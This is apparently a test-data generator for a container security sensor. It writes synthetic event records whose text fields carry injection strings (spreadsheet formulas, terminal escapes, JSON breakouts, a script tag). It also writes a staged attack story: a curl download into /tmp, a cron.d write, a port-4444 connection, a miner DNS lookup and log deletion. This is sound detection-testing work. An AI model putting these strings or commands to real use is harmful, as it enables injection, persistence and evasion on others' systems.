# SPDX-License-Identifier: Apache-2.0
"""records.py DESC COUNT >PAYLOADS: a container's history that has every kind: as a real kernel gave it (tests/replay), failed, and with
hostile bytes in each text that a record has; a story that rules look for; then more of it, to COUNT records in all."""
import copy, glob, json, re, struct, sys
from google.protobuf import descriptor_pb2, descriptor_pool, json_format, message_factory

desc, count = sys.argv[1], int(sys.argv[2])
pool = descriptor_pool.DescriptorPool()
for f in descriptor_pb2.FileDescriptorSet.FromString(open(desc, 'rb').read()).file:
    pool.Add(f)
Event = message_factory.MessageFactory(pool).GetPrototype(pool.FindMessageTypeByName('varve.v1.Event'))
KINDS = [(name, body) for name, body in re.findall(r'^EV(?:_SENSOR)?\(\d+, (\w+), (\w+),', open('bpf/events.def').read(), re.M)]
RUN = '10000000-0000-4000-8000-000000000001'
ID = '4b2e9f12ac0111111111111111111111111111111111111111111111111111aa'
T0, BOOT = 1795204800000000000, 30000000000000
# Formulas, other separators, terminal escapes, quotes, markup, right-to-left, line ends of all sorts, what closes JSON.
HOSTILE = ['=HYPERLINK("http://x")', '+1', '-1', '@x', '\t=1', '\r\n=1', "'=1", ';=1', ';"=1', '\uff1d1', '\x1b[2J\x1b]0;x\x07', '"},{"EventID":1',
           '\\', '\\"', '</script><script>', '\u202egpj.exe', '\u2028', '\U000e0041', '\x9b31m', '%s%n', '', '/' * 300, 'a,b\n"c"']
SENSOR = {
    'PROCESS_SNAPSHOT': {'exe': {'path': '/usr/bin/sleep'}, 'args': ['sleep', '9'], 'cmd_line': 'sleep 9'},
    'RUN_START': {'sensor_version': '0.1.0', 'kernel_release': '6.1.0', 'watched_since_unix_nano': str(T0)},
    'RUN_END': {'reason': 'SIGTERM', 'watched_until_unix_nano': str(T0 + 10**12)},
    'COVERAGE': {'hooks': [{'name': 'exec', 'attached': True}]},
    'HEARTBEAT': {'clock_offset_nano': str(T0 - BOOT)},
    'LOSS': {'event_class': 'file', 'cause': 'ring_full', 'count': '3', 'first_unix_nano': str(T0), 'last_unix_nano': str(T0 + 1)},
    'SUPPRESSION': {'event_class': 'file', 'reason': 'rate_limit', 'count': '3'},
    'BINDING': {'pending_records': '2'},
    'ACCOUNT': {'counts': [{'event_class': 'file', 'generated': '1', 'recorded': '1'}], 'closed': True},
    'FILE_HASH': {'file': {'path': '/bin/busybox'}, 'sha256': 'ab' * 32, 'event_kind': 'EXEC'},
    'POD_STATE': {'phase': 'Running'},
    'SEAL': {'note': 'varve'},
}
out, sequence = sys.stdout.buffer, 0


def put(kind, body, process=None, known=True):
    """Writes a record; body: of JSON, or a message's bytes."""
    global sequence
    ev = Event(kind=kind, sequence=sequence, stream_sequence=sequence, run_id=RUN, node_name='worker-1', stream=ID, schema_version=1,
               time_unix_nano=T0 + sequence * 1000, boot_time_nano=BOOT + sequence * 1000)
    ev.container.id, ev.container.runtime, ev.container.metadata_state = ID, 'containerd', 'RESOLVED'
    ev.container.name, ev.container.image = 'app', 'docker.io/library/busybox:1.36'
    ev.pod.uid, ev.pod.name, ev.pod.namespace = 'aaaaaaaa-0000-4000-8000-000000000001', 'web-7f9', 'default'
    ev.pod.workload.kind, ev.pod.workload.name = 'Deployment', 'web'
    if process:
        json_format.ParseDict(process, ev.process)
    if known:
        ev.kernel_number.event_class = 'file'
    field = dict(KINDS)[kind]
    if isinstance(body, dict):
        json_format.ParseDict(body, getattr(ev, field))
        getattr(ev, field).SetInParent()
    else:
        getattr(ev, field).MergeFromString(body)
    data = ev.SerializeToString()
    out.write(struct.pack('<I', len(data)) + data)
    sequence += 1


def process(pid=4201, name='sh', exe='/bin/sh', cmd_line='sh -c ls', parent=4200):
    return {'process_uid': f'cccccccc-0000-8000-8000-{pid:012x}', 'pid': pid, 'tid': pid, 'ns_pid': pid % 100, 'name': name, 'exe_path': exe,
            'start_boot_time_nano': str(BOOT - 5 * 10**9), 'cmd_line': cmd_line, 'uid': 0, 'gid': 0, 'euid': 0, 'egid': 0,
            'parent': {'process_uid': f'cccccccc-0000-8000-8000-{parent:012x}', 'pid': parent, 'name': 'containerd-shim',
                       'exe_path': '/usr/bin/containerd-shim', 'start_boot_time_nano': str(BOOT - 9 * 10**9)},
            'entry': {'how': 'session', 'process_uid': f'cccccccc-0000-8000-8000-{pid:012x}'}}


def fill(msg, n, depth=0):
    """Every field of a message, the strings hostile."""
    for i, field in enumerate(msg.DESCRIPTOR.fields):
        number = (n * 7 + i) % len(HOSTILE)
        value = {field.CPPTYPE_STRING: HOSTILE[number].encode() if field.type == field.TYPE_BYTES else HOSTILE[number], field.CPPTYPE_BOOL: True,
                 field.CPPTYPE_MESSAGE: None}.get(field.cpp_type, 7 + i)
        if field.cpp_type == field.CPPTYPE_MESSAGE:
            if depth < 3:
                fill(getattr(msg, field.name).add() if field.label == field.LABEL_REPEATED else getattr(msg, field.name), n + i, depth + 1)
        elif field.label == field.LABEL_REPEATED:
            getattr(msg, field.name).extend([value, value])
        else:
            setattr(msg, field.name, value)
    msg.SetInParent()
    return msg


put('RUN_START', SENSOR['RUN_START'], known=False)
put('CONTAINER_START', {'cgroup_path': '/kubepods/x'}, process(3980, 'runc'))
real = {k: b for k, b in SENSOR.items() if k not in ('RUN_START', 'RUN_END')}
for path in sorted(glob.glob('tests/replay/*.json')):
    record = json.load(open(path))
    real[record['kind']] = record[dict(KINDS)[record['kind']]]
missing = [k for k, _ in KINDS if k not in real and not k.startswith('RUN_')]
assert not missing, missing
for kind, body in real.items():
    if kind in ('CONTAINER_START', 'CONTAINER_STOP'):
        continue
    sensor = kind in SENSOR
    put(kind, body, None if sensor and kind != 'PROCESS_SNAPSHOT' else process(), not sensor)
    body_type = pool.FindMessageTypeByName('varve.v1.Event').fields_by_name[dict(KINDS)[kind]].message_type
    if 'call_errno' in body_type.fields_by_name:
        failed = copy.deepcopy(body)
        failed.update({'call_errno': 13} | ({'outcome': 'failed'} if kind == 'CONNECT' else {}))
        put(kind, failed, process())
    # As little as a record can have.
    put(kind, {}, None, not sensor)
for n in range(len(HOSTILE)):
    for kind, field in KINDS:
        if kind not in ('RUN_START', 'RUN_END', 'CONTAINER_START', 'CONTAINER_STOP', 'COVERAGE', 'SEAL'):
            hostile = Event()
            hostile.process.CopyFrom(fill(Event().process, n))
            put(kind, fill(getattr(Event(), field), n).SerializeToString(), json_format.MessageToDict(hostile.process, True))

# What rules look for, and what they must not take for it.
exe = {'file': {'path': '/usr/bin/curl', 'mode': 33261, 'size': '9'}, 'args': ['curl', '-o', '/tmp/x', 'http://192.0.2.7/x'], 'args_count': 4,
       'cmd_line': 'curl -o /tmp/x http://192.0.2.7/x', 'cwd': {'path': '/tmp'}}
put('EXEC', exe, process(4202, 'curl', '/usr/bin/curl', exe['cmd_line'], 4201))
put('EXEC', {'file': {'path': '/usr/bin/curl-config'}, 'args': ['curl-config'], 'cmd_line': 'curl-config --libs'}, process(4203, 'curl-config'))
put('EXEC_FAILED', {'call': 'execve', 'call_errno': 2, 'file': {'path': '/opt/bin/curl'}, 'cmd_line': exe['cmd_line']}, process(4204))
put('OPEN', {'file': {'path': '/etc/cron.d/x'}, 'flags': 65, 'created': True, 'written': True}, process(4202, 'curl', '/usr/bin/curl'))
put('OPEN', {'file': {'path': '/etc/cron.d/read'}, 'flags': 0}, process(4202, 'curl', '/usr/bin/curl'))
put('OPEN', {'file': {'path': '/etc/cron.d/denied'}, 'flags': 65, 'call_errno': 13}, process(4202, 'curl', '/usr/bin/curl'))
put('CONNECT', {'protocol': 'tcp', 'source': {'ip': '10.1.2.3', 'port': 41000}, 'destination': {'ip': '192.0.2.7', 'port': 4444}, 'call_errno': 0,
                'outcome': 'connected'}, process(4202, 'curl', '/usr/bin/curl'))
put('CONNECT', {'protocol': 'tcp', 'destination': {'ip': '192.0.2.7', 'port': 4444}, 'call_errno': 115, 'outcome': 'in_progress'}, process(4205))
put('CONNECT', {'protocol': 'tcp', 'destination': {'ip': '2001:db8::1', 'port': 4444}, 'call_errno': 111, 'outcome': 'failed'}, process(4206))
put('ACCEPT', {'protocol': 'tcp', 'source': {'ip': '192.0.2.7', 'port': 4444}, 'destination': {'ip': '10.1.2.3', 'port': 80}}, process(4207))
put('DNS', {'protocol': 'udp', 'direction': 'sent', 'source': {'ip': '10.1.2.3', 'port': 5}, 'destination': {'ip': '10.0.0.1', 'port': 53},
            'messages': [{'id': 1, 'response': False, 'opcode': 'QUERY', 'questions': [{'name': 'pool.miner.example', 'type': 'A', 'class': 'IN'}]}]},
    process(4208))
put('UNLINK', {'file': {'path': '/var/log/auth.log'}}, process(4209, 'rm', '/bin/rm'))
while sequence < count - 3:
    put('OPEN', {'file': {'path': f'/srv/data/{sequence}', 'inode': '42', 'mode': 33188, 'uid': 0, 'gid': 0, 'size': '100'}, 'flags': 32769,
                 'created': True, 'written': True, 'fd': 3}, process(4300 + sequence % 50))
put('CONTAINER_STOP', {'cgroup_path': '/kubepods/x'}, process(3980, 'runc'))
put('ACCOUNT', SENSOR['ACCOUNT'], known=False)
put('RUN_END', SENSOR['RUN_END'], known=False)
